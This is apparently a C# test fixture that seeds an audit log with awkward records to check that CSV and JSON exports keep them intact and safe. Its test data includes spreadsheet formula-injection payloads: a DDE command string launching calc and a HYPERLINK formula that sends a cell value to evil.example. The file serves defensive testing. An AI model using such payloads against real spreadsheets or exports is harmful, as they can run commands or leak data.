using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;
using Rag.Core.Audit;
using Rag.Audit.Signing;
using Rag.Audit;
using Rag.Audit.Export;
using Rag.Testing;
using Microsoft.Extensions.Time.Testing;
using Rag.Storage;

namespace Rag.Audit.Tests.Export;

/// <summary>
/// One test's audit log, seeded with awkward records one minute apart from <see cref="Start"/> (record i has sequence
/// i + 1 and is data row i + 1 of an export of everything), and an exporter over it signing with the log's own key.
/// </summary>
internal sealed class ExportScenario : IAsyncDisposable
{
    public static readonly DateTimeOffset Start = new(2026, 3, 2, 9, 0, 0, TimeSpan.Zero);

    /// <summary>Before any export's own record (the clock is moved a day on after seeding).</summary>
    public static readonly DateTimeOffset End = Start.AddHours(1);

    private readonly TempDirectory _temp = new();
    private readonly IOptions<StorageOptions> _storage;
    private readonly IOptions<AuditOptions> _audit = Options.Create(new AuditOptions());

    public ExportScenario()
    {
        _storage = Options.Create(new StorageOptions { DataDirectory = _temp.Combine("data") });
        Keys = new AuditKeyProvider(_audit, _storage, NullLogger<AuditKeyProvider>.Instance);
        Log = OpenWriter(Clock);
        Audit = new HookedAuditLog(Log);
        Exporter = new AuditExporter(Audit, Keys, Clock);
        Directory.CreateDirectory(_temp.Combine("out"));
    }

    public FakeTimeProvider Clock { get; } = new(Start);

    public AuditKeyProvider Keys { get; }

    public SqliteAuditLog Log { get; }

    /// <summary>The log the exporter writes to, with a hook on appends.</summary>
    public HookedAuditLog Audit { get; }

    public AuditExporter Exporter { get; }

    public List<AuditRecord> Records { get; } = [];

    public static AuditActor Compliance { get; } = new("carla", "Carla Compliance", ["compliance"], ["compliance"]);

    /// <summary>Events whose cells are hard to get through CSV and JSON unchanged; each detail holds a unique <c>ticket-NNNN</c>.</summary>
    public static IReadOnlyList<AuditEvent> AwkwardEvents()
    {
        var alice = new AuditActor("alice", "Alice Ärztin", ["staff, north", "\"quoted\" group"], ["reader"]);
        var bob = new AuditActor("bob", "Bob, \"the admin\"", [], ["admin", "=cmd|' /C calc'!A0"]);
        string[] details =
        [
            "{\"question\":\"Is \\\"A, B\\\" ok? ticket-0000\"}",
            "Plain, \"quoted\", and\r\nCRLF and\nLF and \r lone CR ticket-0001",
            "Ärztin fragt: 日本語 — emoji 🔒 ticket-0002",
            "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\") ticket-0003",
            "+1+1 ticket-0004",
            "-2 ticket-0005",
            "@SUM(A1:A9) ticket-0006",
            "'already quoted ticket-0007",
            "\tTab first ticket-0008",
            "  padded with spaces ticket-0009  ",
        ];
        var events = new List<AuditEvent>();
        for (var i = 0; i < details.Length; i++)
        {
            events.Add(new AuditEvent(i % 2 == 0 ? AuditActions.QuestionAsked : AuditActions.AnswerGiven, i % 3 == 2 ? bob : alice, i % 4 == 0 ? [] : ["doc-1", "chunk,\"2\"", "ü"], AuditOutcomes.Answered)
            {
                Detail = details[i],
                CorrelationId = i % 3 == 0 ? null : "c-" + i,
                ClientAddress = i % 2 == 0 ? "10.0.0.7" : AuditContext.LocalClient,
                ModelId = i % 2 == 0 ? null : "=model",
                ModelVersion = i == 1 ? string.Empty : null,
            });
        }

        events.Add(new AuditEvent(AuditActions.DocumentIndexed, AuditActor.System, ["doc-9"], AuditOutcomes.Ok) { Detail = null });
        events.Add(new AuditEvent(AuditActions.EgressBlocked, alice, [], AuditOutcomes.Denied) { Detail = string.Empty, CorrelationId = "-" });
        return events;
    }

    /// <summary>Appends <see cref="AwkwardEvents"/> one minute apart, then moves the clock a day on.</summary>
    public async Task<List<AuditRecord>> SeedAsync()
    {
        foreach (var auditEvent in AwkwardEvents())
        {
            Records.Add(await Log.AppendAsync(auditEvent));
            Clock.Advance(TimeSpan.FromMinutes(1));
        }

        Clock.SetUtcNow(Start.AddDays(1));
        return Records;
    }

    /// <summary>Another writer on the same log (as a second process would be), with its own clock.</summary>
    public SqliteAuditLog OpenWriter(TimeProvider clock) => new(_storage, _audit, Keys, NullLogger<SqliteAuditLog>.Instance, clock);

    public string Out(string name) => _temp.Combine("out", name);

    /// <summary>The public half of the log's signing key, as an auditor holds it.</summary>
    public AuditKey PublicKey() => AuditKey.FromPem(Keys.GetSigningKey().ExportPublicPem());

    /// <summary>Exports everything seeded (not the export's own record) to <paramref name="name"/>.</summary>
    public Task<AuditExportResult> ExportAllAsync(string name, AuditExportFormat format) =>
        Exporter.ExportAsync(new AuditExportRequest { OutputPath = Out(name), Format = format, From = Start, To = End }, Compliance);

    public async ValueTask DisposeAsync()
    {
        await Log.DisposeAsync();
        Keys.Dispose();
        _temp.Dispose();
    }
}
